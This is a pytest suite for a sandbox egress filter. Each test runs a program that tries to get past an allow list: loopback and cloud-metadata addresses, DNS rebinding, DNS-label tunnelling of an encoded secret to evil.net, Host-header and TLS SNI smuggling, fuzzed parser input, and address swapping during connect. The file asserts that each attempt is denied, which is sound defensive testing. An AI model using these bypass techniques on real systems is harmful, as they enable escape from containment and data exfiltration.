"""Programs that try to reach what their list does not allow. Each kind of attack is one test."""

from __future__ import annotations

import itertools
import ssl

import pytest

from tests.egress.programs import ONLY_ONE, python
from tests.egress.world import (
    ALL,
    ECHO,
    METADATA,
    ONE,
    ONE6,
    PRIVATE,
    SECRET_OF_THE_MACHINE,
    SHARED,
    TWO,
    Machine,
    rules,
)
from tests.patience import patient

TENANT = rules(ALL, {"hosts": ["tenant.example.com"]})
EVERYTHING = rules({"cidrs": ["0.0.0.0/0", "::/0"]}, {"cidrs": ["0.0.0.0/0", "::/0"], "hosts": ["*.example.com"]})


def lines(machine: Machine, program: str, egress: object = ONLY_ONE, **options: object) -> list[str]:
    """What a program prints."""
    ran = machine.run(python(program), egress, **options)  # type: ignore[arg-type]
    assert ran.ending.exit_code == 0, ran.err
    return ran.out.splitlines()


def test_other_names_and_addresses(machine: Machine) -> None:
    ran = machine.run(
        python(f"""
        attempt(lambda: get("http://two.example.com/"))
        attempt(lambda: get("http://{TWO}/"))
        attempt(lambda: talk(("{TWO}", 443), b"hello"))
        attempt(lambda: talk(("{TWO}", {ECHO}), b"hello"))
        """),
        ONLY_ONE,
    )
    assert ran.out.splitlines() == ["denied unresolved", "denied 403 no_match", *["denied ECONNRESET"] * 2]
    assert ran.denied() == [("two.example.com", None, "no_match"), *[(None, TWO, "no_match")] * 3]
    usage = ran.ending.usage.egress
    assert usage is not None
    assert (usage.connections, usage.sent, usage.received) == (3, 0, 0)
    # A name is asked for once for each family.
    assert usage.denied >= 4


@pytest.mark.parametrize(
    "address",
    [
        f"('127.0.0.1', {SECRET_OF_THE_MACHINE})",
        f"('0.0.0.0', {SECRET_OF_THE_MACHINE})",
        f"('127.0.0.2', {SECRET_OF_THE_MACHINE})",
        f"('::1', {SECRET_OF_THE_MACHINE})",
        f"('::ffff:127.0.0.1', {SECRET_OF_THE_MACHINE})",
        f"('::ffff:0.0.0.0', {SECRET_OF_THE_MACHINE})",
        f"('::', {SECRET_OF_THE_MACHINE})",
        f"('64:ff9b::7f00:1', {SECRET_OF_THE_MACHINE})",
        f"('2002:7f00:1::', {SECRET_OF_THE_MACHINE})",
        f"('::127.0.0.1', {SECRET_OF_THE_MACHINE})",
        "('127.0.0.1', 15001)",
        "('::1', 15001)",
        "('127.0.0.1', 53)",
        f"('{PRIVATE}', 80)",
        f"('{METADATA}', 80)",
        f"('::ffff:{METADATA}', 80)",
        "('fd00:ec2::254', 80)",
        "('fe80::1%1', 80)",
        "('255.255.255.255', 80)",
        "('224.0.0.1', 80)",
        "('0.1.2.3', 80)",
    ],
)
def test_addresses_that_are_not_public_are_denied_though_all_are_allowed(machine: Machine, address: str) -> None:
    request = "b'GET / HTTP/1.0\\r\\n\\r\\n'"
    (said,) = lines(machine, f"attempt(lambda: repr(talk({address}, {request})))", EVERYTHING)
    assert "BREACH" not in said
    assert "hello from" not in said
    assert said.startswith("denied E") or said.startswith("'HTTP/1.1 403")


def test_private_addresses_by_address_in_both_lists_are_reached(machine: Machine) -> None:
    inside = {"ips": [PRIVATE]}
    program = f'attempt(lambda: get("http://{PRIVATE}/"))'
    assert lines(machine, program, rules(inside, inside)) == [f"hello from {PRIVATE} over http"]
    assert lines(machine, program, rules(inside, ALL)) == ["denied 403 no_match"]
    assert lines(machine, program, rules(ALL, inside)) == ["denied 403 no_match"]


def test_a_name_that_leads_inside_does_not(machine: Machine) -> None:
    names = ["inside", "local", "metadata", "mapped"]
    everything = rules(ALL, {"hosts": [f"{name}.example.com" for name in names]})
    program = "\n".join(f'attempt(lambda: get("http://{name}.example.com/"))' for name in names)
    assert lines(machine, program, everything) == ["denied unresolved"] * 4
    # Of several addresses the public ones count.
    program = 'print({item[4][0] for item in socket.getaddrinfo("mixed.example.com", 80)})'
    assert lines(machine, program, rules(ALL, {"hosts": ["mixed.example.com"]})) == [str({ONE})]


def test_a_name_is_not_resolved_again(machine: Machine) -> None:
    """Rebinding: the second answer would be the machine's own loopback."""
    resolver = machine.world.resolver
    resolver.rebinding["rebinding.example.com"] = itertools.chain([ONE], itertools.repeat("127.0.0.1"))
    resolver.asked.clear()
    program = """
        for _ in range(3):
            print({item[4][0] for item in socket.getaddrinfo("rebinding.example.com", 80)})
            attempt(lambda: get("http://rebinding.example.com/"))
    """
    both = rules(ALL, {"hosts": ["rebinding.example.com"]})
    assert lines(machine, program, both) == [str({ONE}), f"hello from {ONE} over http"] * 3
    assert len([1 for name, kind in resolver.asked if name == "rebinding.example.com" and kind == 1]) == 1


def test_dns_is_no_tunnel(machine: Machine) -> None:
    resolver = machine.world.resolver
    resolver.asked.clear()
    program = """
    import random
    def ask(name, kind=1, number=None, server=("127.0.0.1", 53), head=None):
        sock = socket.socket(socket.AF_INET6 if ":" in server[0] else socket.AF_INET, socket.SOCK_DGRAM)
        sock.settimeout(10)
        labels = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
        number = 77 if number is None else number
        head = head or struct.pack(">6H", number, 0x100, 1, 0, 0, 0)
        sock.sendto(head + labels + b"\\0" + struct.pack(">2H", kind, 1), server)
        answer = sock.recv(4096)
        return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    hidden = b"c2VjcmV0"
    for place in (b"evil.net", b"one.example.com", b"x" * 63 + b".two.example.com", b"one.example.com.evil.net"):
        attempt(lambda: ask(hidden + b"." + place))
    for kind in (16, 65, 255, 15, 10, 252):
        attempt(lambda: ask(b"one.example.com", kind))
    attempt(lambda: ask(b"evil.net", 16))
    attempt(lambda: ask(b"evil.net", server=("::1", 53)))
    attempt(lambda: ask(b"ONE.example.COM", server=("::1", 53)))
    attempt(lambda: ask(b"one.example.com", server=("8.8.8.8", 53)))
    attempt(lambda: ask(b"evil.net", head=struct.pack(">6H", 77, 0x2900, 1, 0, 0, 0)))
    """
    said = lines(machine, program)
    assert said[:4] == ["(5, 0)"] * 4
    assert said[4:10] == ["(0, 0)"] * 6
    assert said[10:] == ["(5, 0)", "(5, 0)", "(0, 1)", "denied EPERM", "(4, 0)"]
    assert set(resolver.asked) <= {("one.example.com", 1), ("one.example.com", 28)}


def test_bytes_that_attack_the_resolver(machine: Machine) -> None:
    program = """
    import random
    random.seed(17)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(("127.0.0.1", 53))
    head = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0)
    hostile = [b"", b"\\0", head, head + b"\\xc0\\x0c" * 200, head + b"\\x3f" * 500, head + b"\\xff" * 300, bytes(600),
               head + b"\\1a" * 240 + b"\\0\\0\\1\\0\\1", struct.pack(">6H", 1, 0x8180, 1, 1, 1, 1) + bytes(100),
               struct.pack(">6H", 1, 0x100, 65535, 65535, 65535, 65535) + bytes(400)]
    hostile += [random.randbytes(random.randrange(600)) for _ in range(500)]
    hostile += [head + random.randbytes(random.randrange(80)) for _ in range(300)]
    for data in hostile:
        try:
            sock.send(data)
        except ConnectionRefusedError:
            print("refused")
    attempt(lambda: get("http://one.example.com/"))
    """
    assert lines(machine, program) == [f"hello from {ONE} over http"]


def test_udp_icmp_and_raw_are_refused_at_once(machine: Machine) -> None:
    program = f"""
    began = time.monotonic()
    for address in (("{ONE}", 53), ("{ONE}", 443), ("255.255.255.255", 67), ("224.0.0.251", 5353)):
        attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", address))
    for address in (("{ONE6}", 443), ("ff02::1", 5353)):
        attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", address))
    kinds = ((2, 2, 1), (2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0), (2, 5, 132), (2, 2, 136))
    for family, kind, protocol in kinds:
        attempt(lambda: socket.socket(family, kind, protocol).sendto(b"\\x08\\0" + bytes(30), ("{ONE}", 0)))
    print(time.monotonic() - began < 10)
    """
    said = lines(machine, program)
    assert said.pop() == "True"
    assert len(said) == 13
    assert all(line.startswith("denied E") for line in said), said


def test_threads_that_flip_the_address_during_connect(machine: Machine) -> None:
    """The address is read where the kernel keeps it, never from the program's memory."""
    program = f"""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    good, bad = socket.inet_aton("{ONE}"), socket.inet_aton("{TWO}")
    name = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack(">H", 80) + good + bytes(8), 16)
    stop = False
    def flip():
        while not stop:
            ctypes.memmove(ctypes.addressof(name) + 4, bad, 4)
            ctypes.memmove(ctypes.addressof(name) + 4, good, 4)
    flippers = [threading.Thread(target=flip) for _ in range(3)]
    for thread in flippers:
        thread.start()
    found = set()
    def dial():
        for _ in range(25):
            with socket.socket() as sock:
                if libc.connect(sock.fileno(), name, 16):
                    continue
                sock.settimeout(20)
                try:
                    sock.sendall(b"GET / HTTP/1.1\\r\\nHost: one.example.com\\r\\n\\r\\n")
                    found.add(sock.recv(4096).splitlines()[-1].split(b" is not")[0])
                except OSError as error:
                    found.add(error.errno)
    dialers = [threading.Thread(target=dial) for _ in range(4)]
    for thread in dialers:
        thread.start()
    for thread in dialers:
        thread.join()
    stop = True
    print(found)
    """
    (said,) = lines(machine, program)
    assert f"hello from {TWO}" not in said
    assert f"hello from {ONE}" in said


def test_a_redirect_to_elsewhere_is_denied(machine: Machine) -> None:
    program = f"""
    for place in ("two.example.com", "{METADATA}", "127.0.0.1:{SECRET_OF_THE_MACHINE}", "{TWO}"):
        attempt(lambda: get(f"http://one.example.com/to/http://{{place}}/"))
    """
    assert lines(machine, program) == [
        "denied unresolved",
        "denied 403 no_match",
        "denied ECONNREFUSED",
        "denied 403 no_match",
    ]


HEAD = "GET / HTTP/1.1\\r\\n"
MISMATCH = "HTTP/1.1 403 Forbidden"


@pytest.mark.parametrize(
    ("request_", "passes"),
    [
        (HEAD + "Host: tenant.example.com\\r\\n\\r\\n", True),
        (HEAD + "hOsT:\\ttenant.example.com:80 \\r\\n\\r\\n", True),
        ("GET http://tenant.example.com/ HTTP/1.1\\r\\nHost: tenant.example.com\\r\\n\\r\\n", True),
        (HEAD + "Host: a.wild.example.org\\r\\n\\r\\n", False),
        (HEAD + "Host: tenant.example.com.evil.net\\r\\n\\r\\n", False),
        (HEAD + "Host: tenant.example.com\\r\\nHost: a.wild.example.org\\r\\n\\r\\n", False),
        (HEAD + "Host: tenant.example.com\\r\\n a.wild.example.org\\r\\n\\r\\n", False),
        (HEAD + "Host : a.wild.example.org\\r\\n\\r\\n", False),
        (HEAD + "Host\\0: a.wild.example.org\\r\\n\\r\\n", False),
        (HEAD + "X: y\\r\\n\\tz\\r\\nHost: a.wild.example.org\\r\\n\\r\\n", False),
        ("GET http://a.wild.example.org/ HTTP/1.1\\r\\nHost: tenant.example.com\\r\\n\\r\\n", False),
        ("CONNECT a.wild.example.org:443 HTTP/1.1\\r\\nHost: tenant.example.com\\r\\n\\r\\n", False),
        ("get / HTTP/1.1\\nHost: a.wild.example.org\\n\\n", False),
        ("\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: a.wild.example.org\\r\\n\\r\\n", False),
        ("FOO / HTTP/1.1\\r\\nHost: a.wild.example.org\\r\\n\\r\\n", False),
        (HEAD + "X: " + "y" * 20000 + "\\r\\nHost: a.wild.example.org\\r\\n\\r\\n", False),
        ("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", False),
        (HEAD + f"Host: {SHARED}\\r\\n\\r\\n", False),
        ("GET /a b HTTP/1.1\\r\\nHost: a.wild.example.org\\r\\n\\r\\n", False),
        (" GET\\x0b/\\x0bHTTP/1.1\\r\\nHost: a.wild.example.org\\r\\n\\r\\n", False),
        (HEAD + "X: y\\rHost: a.wild.example.org\\r\\n\\r\\n", False),
    ],
)
def test_the_host_of_a_request_must_be_one_that_leads_here(machine: Machine, request_: str, passes: bool) -> None:
    """Two tenants of one address: only the one that is allowed answers."""
    machine.world.requests.clear()
    (said,) = lines(machine, f'attempt(lambda: talk(("{SHARED}", 80), b"{request_}").splitlines()[0])', TENANT)
    assert said == ("HTTP/1.1 200 OK" if passes else MISMATCH)
    assert len(machine.world.requests) == passes


def test_a_head_in_small_pieces_is_held_until_it_is_whole(machine: Machine) -> None:
    program = f"""
    def slowly(data):
        with socket.create_connection(("{SHARED}", 80), 20) as sock:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for number in range(len(data)):
                sock.sendall(data[number:number + 1])
                time.sleep(0.001)
            return sock.recv(4096).decode().splitlines()[0]
    attempt(lambda: slowly(b"GET / HTTP/1.1\\r\\nHost: tenant.example.com\\r\\n\\r\\n"))
    attempt(lambda: slowly(b"GET / HTTP/1.1\\r\\nHost: a.wild.example.org\\r\\n\\r\\n"))
    attempt(lambda: slowly(b"QUUX / HTTP/1.1\\r\\nHost: a.wild.example.org\\r\\n\\r\\n"))
    """
    machine.world.requests.clear()
    said = lines(machine, program, TENANT)
    assert said[:2] == ["HTTP/1.1 200 OK", MISMATCH]
    assert said[2].startswith("denied E")
    assert [head.splitlines()[1] for _, head in machine.world.requests] == [b"Host: tenant.example.com"]


def test_no_line_is_so_long_that_it_is_let_by(machine: Machine) -> None:
    machine.world.requests.clear()
    program = f"""
    def send(*pieces):
        with socket.create_connection(("{SHARED}", 80), 20) as sock:
            for piece in pieces:
                sock.sendall(piece)
                time.sleep(0.05)
            return sock.recv(4096)
    tail = b" HTTP/1.1\\r\\nHost: a.wild.example.org\\r\\n\\r\\n"
    attempt(lambda: send(b"QUUX /" + b"x" * 9000, b"x" * 9000, tail))
    attempt(lambda: send(b"QUUX / HTTP/1.1", b" " * 9000, b"\\r\\nHost: a.wild.example.org\\r\\n\\r\\n"))
    """
    ran = machine.run(python(program), TENANT)
    assert all(line.startswith("denied E") for line in ran.out.splitlines()), ran.out
    assert {reason for _, _, reason in ran.denied()} == {"dns_mismatch"}
    assert machine.world.requests == []


def test_the_name_of_tls_must_be_one_that_leads_here(machine: Machine) -> None:
    machine.world.requests.clear()
    ran = machine.run(
        python(f"""
        attempt(lambda: secure(("{SHARED}", 443), "tenant.example.com"))
        attempt(lambda: secure(("{SHARED}", 443), "TENANT.example.com"))
        attempt(lambda: secure(("{SHARED}", 443), None))
        attempt(lambda: secure(("{SHARED}", 443), "a.wild.example.org"))
        attempt(lambda: secure(("{SHARED}", 443), "tenant.example.com.evil.net"))
        """),
        TENANT,
    )
    *passed, second, third = ran.out.splitlines()
    assert passed == [f"hello from {SHARED} over https"] * 3
    assert second == third == "denied ECONNRESET"
    assert ran.denied() == [
        ("a.wild.example.org", SHARED, "dns_mismatch"),
        ("tenant.example.com.evil.net", SHARED, "dns_mismatch"),
    ]
    assert len(machine.world.requests) == 3


def client_hello(name: str) -> bytes:
    """The first bytes of a real client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def test_a_name_of_tls_that_is_cut_into_records_and_packets(machine: Machine) -> None:
    hello, first = client_hello("a.wild.example.org"), client_hello("tenant.example.com")
    program = f"""
    hello = bytes.fromhex("{hello.hex()}")
    body = hello[5:]
    def records(size):
        return b"".join(b"\\x16\\x03\\x01" + struct.pack(">H", len(body[at:at + size])) + body[at:at + size]
                        for at in range(0, len(body), size))
    def send(pieces):
        with socket.create_connection(("{SHARED}", 443), 20) as sock:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for piece in pieces:
                sock.sendall(piece)
                time.sleep(0.002)
            return sock.recv(4096)[:3]
    attempt(lambda: send([hello]))
    attempt(lambda: send([records(16)]))
    attempt(lambda: send([records(1)]))
    attempt(lambda: send([hello[:1], hello[1:3], hello[3:60], hello[60:]]))
    attempt(lambda: send([hello[:43] + bytes([255]) + hello[44:]]))
    attempt(lambda: send([b"\\x16\\x03\\x01\\xff\\xff" + bytes(100)]))
    attempt(lambda: send([b"\\x15\\x03\\x01\\0\\2\\1\\x5a" + hello]))
    attempt(lambda: send([b"\\x15", b"\\x03\\x01\\0\\2\\1\\x5a", hello]))
    # A second hello, which a server wants that knows none of the keys of the first.
    attempt(lambda: send([bytes.fromhex("{first.hex()}"), b"\\x14\\x03\\x03\\0\\1\\1" + hello]))
    """
    ran = machine.run(python(program), TENANT)
    *before, last = ran.out.splitlines()
    assert before == ["denied ECONNRESET"] * 8, ran.err
    # The server has answered the first by then.
    assert last in ("denied ECONNRESET", repr(b"\x16\x03\x03"))
    assert ("tenant.example.com", SHARED, "dns_mismatch") in ran.denied()
    assert {reason for _, _, reason in ran.denied()} == {"dns_mismatch"}


def test_bytes_that_attack_the_parsers(machine: Machine) -> None:
    """Whatever a program sends, the process goes on and others are served."""
    hello = client_hello("tenant.example.com").hex()
    before = machine.process
    program = f"""
    import random
    random.seed(3)
    hello = bytes.fromhex("{hello}")
    def mutated(data):
        data = bytearray(data)
        for _ in range(random.randrange(1, 8)):
            data[random.randrange(len(data))] = random.randrange(256)
        return bytes(data)
    head = b"GET / HTTP/1.1\\r\\nHost: tenant.example.com\\r\\nX: y\\r\\n\\r\\n"
    for data in [mutated(random.choice((hello, head))) for _ in range(150)]:
        with socket.create_connection(("{SHARED}", random.choice((80, 443))), 20) as sock:
            try:
                sock.sendall(data)
                sock.shutdown(socket.SHUT_WR)
                sock.recv(100)
            except OSError:
                pass
    attempt(lambda: get("http://tenant.example.com/"))
    """
    assert lines(machine, program, TENANT) == [f"hello from {SHARED} over http"]
    assert machine.process == before


def test_proxy_variables_lead_nowhere(machine: Machine) -> None:
    """Neither those of the server, nor those that a program is given."""
    env = {"http_proxy": f"http://{TWO}:80", "https_proxy": f"http://{TWO}:80", "ALL_PROXY": f"http://{TWO}:80"}
    ran = machine.run(["curl", "-sS", "http://one.example.com/"], ONLY_ONE, env=env)
    assert "hello" not in ran.out
    assert "egress denied: no_match" in ran.out


def test_rules_of_one_box_are_not_those_of_another(machine: Machine) -> None:
    """At the same time: each reaches what its own list has."""

    async def both() -> tuple[str, str]:
        import asyncio

        program = python("""
        for _ in range(10):
            for name in ("one", "two"):
                attempt(lambda: get(f"http://{name}.example.com/"))
        """)
        first, second = await asyncio.gather(
            machine.arun(program, ONLY_ONE), machine.arun(program, rules(ALL, {"hosts": ["two.example.com"]}))
        )
        return first.out, second.out

    first, second = machine.do(both())
    assert first.splitlines() == [f"hello from {ONE} over http", "denied unresolved"] * 10
    assert second.splitlines() == ["denied unresolved", f"hello from {TWO} over http"] * 10


def test_addresses_that_names_may_stand_for_are_bounded(machine: Machine) -> None:
    """A domain's server gives each of its names as many as fit."""
    program = """
    found = 0
    for number in range(600):
        try:
            found += len(socket.getaddrinfo(f"n{number}.many.example.com", 80, socket.AF_INET, socket.SOCK_STREAM))
        except socket.gaierror:
            break
    print(found)
    attempt(lambda: get("http://one.example.com/"))
    """
    egress = rules(ALL, {"hosts": ["*.many.example.com", "one.example.com"]})
    count, last = lines(machine, program, egress, timeout=patient(60))
    assert 8192 - 40 <= int(count) < 8192 + 40
    assert last == f"hello from {ONE} over http"


def test_what_is_told_is_bounded(machine: Machine) -> None:
    """A program that asks for many names, each of its own kind."""
    ran = machine.run(
        python("""
        def ask(number):
            try:
                socket.getaddrinfo(f"n{number}.evil.net", 80, socket.AF_INET)
            except socket.gaierror:
                pass
        for number in range(1300):
            ask(number)
        attempt(lambda: get("http://one.example.com/"))
        """),
        ONLY_ONE,
        timeout=patient(60),
    )
    assert ran.out == f"hello from {ONE} over http\n"
    assert len(ran.seen) == 1000
    usage = ran.ending.usage.egress
    assert usage is not None
    assert usage.denied >= 1300


def test_programs_cannot_take_the_place_of_the_resolver_or_the_listener(machine: Machine) -> None:
    program = f"""
    def bind(kind, address, family=socket.AF_INET):
        sock = socket.socket(family, kind)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind(address)
        if kind == socket.SOCK_STREAM:
            sock.listen()
        kept.append(sock)
        return "bound"
    kept = []
    attempt(lambda: bind(socket.SOCK_DGRAM, ("127.0.0.1", 53)))
    attempt(lambda: bind(socket.SOCK_STREAM, ("0.0.0.0", 15001)))
    attempt(lambda: bind(socket.SOCK_STREAM, ("127.0.0.1", 15001)))
    # Its own servers are its own affair, even where all addresses are its own: nobody else connects to them.
    attempt(lambda: bind(socket.SOCK_STREAM, ("127.0.0.1", 8080)))
    attempt(lambda: talk(("{TWO}", 8080)))
    attempt(lambda: get("http://one.example.com/"))
    """
    said = lines(machine, program)
    assert said[:3] == ["denied EACCES", "denied EADDRINUSE", "denied EADDRINUSE"]
    assert said[3] == "bound"
    assert said[4].startswith("denied E")
    assert said[5] == f"hello from {ONE} over http"


def test_a_listener_of_the_program_on_an_address_outside_gets_no_connection_meant_for_it(machine: Machine) -> None:
    program = f"""
    server = socket.socket()
    server.bind(("{ONE}", 8000))
    server.listen()
    server.settimeout(1)
    attempt(lambda: talk(("{ONE}", {ECHO}), b"\\1outside"))
    attempt(lambda: talk(("{ONE}", 8000), b"\\1outside"))
    attempt(server.accept)
    """
    said = lines(machine, program)
    assert said[0] == "\1outside"
    assert said[1:] == ["denied ECONNRESET", "denied TimeoutError"]
